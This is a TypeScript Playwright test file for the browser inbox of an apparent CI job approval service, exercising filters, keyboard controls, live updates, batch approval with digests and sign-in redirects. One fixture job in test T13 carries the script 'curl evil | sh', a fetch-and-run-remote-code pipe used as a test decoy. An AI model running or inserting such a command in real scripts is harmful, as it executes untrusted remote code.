import type { Page } from 'playwright-core';
import { describe, expect, it, vi } from 'vitest';
import { ended, enqueue, type JobWish } from '../support/page/jobs.ts';
import { stageOfFile } from '../support/page/stage.ts';

// A browser on a machine that others use, too.
vi.setConfig({ testTimeout: 90_000, hookTimeout: 90_000 });
const stage = stageOfFile();

const MARIA = { id: 21, username: 'maria', name: 'Maria Silva' };
async function waiting(wish: JobWish) {
  return stage.scene.hold(enqueue(stage.scene, wish), 'waiting_for_approval');
}
const titles = (page: Page) => page.locator('.item-title, .lane').allTextContents();

describe('the inbox in the browser', () => {
  it('has what waits for me first, then what waits for others, then what I opened', async () => {
    await stage.open();
    await waiting({ name: 'of-zoe' });
    await waiting({ name: 'of-maria', options: { user: MARIA } });
    const maria = await stage.see('maria', '/');
    await maria.getByRole('link', { name: 'of-maria' }).waitFor();
    expect(new URL(maria.url()).pathname).toBe('/inbox');
    expect(await titles(maria)).toEqual([
      'Waits for you 1',
      'of-zoe',
      'Jobs of others, for others to decide 0',
      'Your jobs, for others to decide 1',
      'of-maria',
    ]);
    const item = maria.locator('.item').first();
    for (const words of [
      '1 job waits',
      'maintainers 0/1',
      'refs/heads/main',
      'to production',
      'Zoë Müller (@zoe)',
      'expires in',
    ])
      expect(await item.textContent()).toContain(words);
  });

  it('is a good place to be where nothing waits, and leads to what has been', async () => {
    await stage.open();
    const page = await stage.see('maria', '/inbox');
    await page.getByText('No configuration waits for anybody.').waitFor();
    await page.locator('.empty').getByRole('link', { name: 'Holds' }).click();
    await page.getByRole('heading', { name: 'Holds' }).waitFor();
    await page.getByText('No Hold fits.').waitFor();
  });

  it('keeps its filters in the address', async () => {
    await stage.open();
    await waiting({ name: 'build' });
    await waiting({ name: 'publish' });
    const page = await stage.see('maria', '/inbox?text=publ');
    await page.getByRole('link', { name: 'publish' }).waitFor();
    expect(await page.getByRole('link', { name: 'build' }).count()).toBe(0);
    await page.getByLabel('Find').fill('');
    await page.getByRole('link', { name: 'build' }).waitFor();
    expect(new URL(page.url()).search).toBe('');
    await page.getByLabel('Find').fill('nothing like it');
    await page.getByText('Nothing that waits fits these filters.').waitFor();
    expect(new URL(page.url()).searchParams.get('text')).toBe('nothing like it');
  });

  it('is gone through, opened and decided by keyboard alone', async () => {
    await stage.open();
    const first = enqueue(stage.scene, { name: 'one', script: ['a'] });
    await stage.scene.approve(first);
    await ended(stage.scene, first, 'success');
    const one = await waiting({ name: 'one', script: ['b'] });
    await waiting({ name: 'two' });
    const page = await stage.see('maria', '/inbox');
    await page.getByRole('link', { name: 'two' }).waitFor();
    await page.keyboard.press('?');
    await page.getByRole('dialog', { name: 'Keys' }).waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'hidden' });
    await page.keyboard.press('j');
    await page.keyboard.press('j');
    await page.locator('.item-current', { hasText: 'two' }).waitFor();
    await page.keyboard.press('k');
    await page.locator('.item-current', { hasText: 'one' }).waitFor();
    await page.keyboard.press('a');
    await page.getByRole('heading', { name: 'one' }).waitFor();
    expect(new URL(page.url()).pathname).toBe(`/holds/${one.id}`);
    await page.getByRole('button', { name: 'Approve', exact: true, disabled: false }).waitFor();
    await page.keyboard.press('a');
    expect(await page.evaluate('document.activeElement.textContent')).toBe('Approve');
    await page.keyboard.press('Enter');
    await page.getByText('Approved by Maria Silva (@maria)').waitFor();
    await ended(stage.scene, one.job_id, 'success');
  });

  it('says that something has changed instead of jumping, and shows it when asked', async () => {
    await stage.open();
    await waiting({ name: 'one' });
    const page = await stage.see('maria', '/inbox');
    await page.getByRole('link', { name: 'one' }).waitFor();
    await page.getByText('Live', { exact: true }).waitFor();
    await waiting({ name: 'two', script: ['make two'] });
    await page.getByText(/changed since this list was read/).waitFor();
    expect(await page.getByRole('link', { name: 'two' }).count()).toBe(0);
    await page.getByRole('button', { name: 'Show it as it is now' }).click();
    await page.getByRole('link', { name: 'two' }).waitFor();
    // What the agent reports of that job a moment later is news again; asked for, it goes away as well.
    await vi.waitFor(
      async () => {
        const again = page.getByRole('button', { name: 'Show it as it is now' });
        if ((await again.count()) > 0) await again.click({ timeout: 500 }).catch(() => {});
        expect(await page.getByText(/changed since this list was read/).count()).toBe(0);
      },
      { timeout: 20_000, interval: 200 },
    );
  });

  it('T13 answers one change in many places with one decision, each with its own digest, and tells what was left out', async () => {
    await stage.open();
    const holds = [];
    for (const name of ['build-a', 'build-b', 'build-c']) holds.push(await waiting({ name, script: ['make'] }));
    holds.push(await waiting({ name: 'build-d', script: ['make'], options: { user: MARIA } }));
    await waiting({ name: 'other', script: ['curl evil | sh'] });
    const page = await stage.see('maria', '/inbox');
    await page.getByRole('link', { name: '4 jobs in 1 project' }).click();
    await page.getByRole('heading', { name: 'One change in 4 places' }).waitFor();
    const own = page.getByRole('row').filter({ hasText: 'build-d' });
    await own.getByText('left out').waitFor();
    await own.getByText('you triggered the job').waitFor();
    await page.getByRole('checkbox', { name: 'build-c of acme/payments/api' }).uncheck();
    for (let turn = 0; turn < 100; turn++) {
      const more = page.getByRole('button', { name: 'Show what was not seen' });
      if ((await more.count()) === 0) break;
      await more.click({ timeout: 2_000 }).catch(() => {});
    }
    const sent = page.waitForRequest((request) => request.url().endsWith('/reviews/decide'));
    await page.getByRole('button', { name: 'Approve all 2' }).click();
    const { decisions } = (await sent).postDataJSON() as { decisions: object[] };
    expect(decisions).toEqual(holds.slice(0, 2).map(({ id, digest }) => ({ hold: id, digest, decision: 'approve' })));
    await page.locator('main').getByText('2 jobs go on.').waitFor();
    expect(await page.getByRole('row').filter({ hasText: 'build-a' }).textContent()).toContain('Goes on');
    expect(await page.getByRole('row').filter({ hasText: 'build-d' }).textContent()).toContain('left out');
    for (const { job_id } of holds.slice(0, 2)) await ended(stage.scene, job_id, 'success');
    expect((await stage.scene.hold(holds[2]!.job_id, 'waiting_for_approval')).votes).toEqual([]);
  });

  it('T19 leads to the sign-in when the session is over, and from there to where one was', async () => {
    await stage.open();
    await waiting({ name: 'one' });
    const page = await stage.see('maria', '/inbox');
    await page.getByRole('link', { name: 'one' }).waitFor();
    const id = await page.evaluate("fetch('/api/v1/session').then((r) => r.json()).then(({ id }) => id)");
    const maria = await stage.scene.as('maria');
    expect((await maria.post(`tokens/${id}/revoke`, {})).status).toBe(200);
    await page.getByRole('link', { name: 'Holds' }).click();
    await page.getByRole('heading', { name: 'Sign in to Holdpoint' }).waitFor();
    expect(new URL(page.url()).pathname).toBe('/holds');
    await page.getByLabel('Token', { exact: true }).fill(maria.token);
    await page.getByRole('button', { name: 'Sign in with the token' }).click();
    await page.getByRole('cell', { name: 'one' }).waitFor();
  });

  it('leads back to the address that was opened, after the sign-in', async () => {
    await stage.open();
    const hold = await waiting({ name: 'deep' });
    const page = await stage.see('maria', `/holds/${hold.id}?x=1`);
    await page.getByRole('heading', { name: 'deep' }).waitFor();
    expect(new URL(page.url()).pathname).toBe(`/holds/${hold.id}`);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('heading', { name: 'Sign in to Holdpoint' }).waitFor();
    await page.reload();
    await page.getByRole('heading', { name: 'Sign in to Holdpoint' }).waitFor();
  });
});
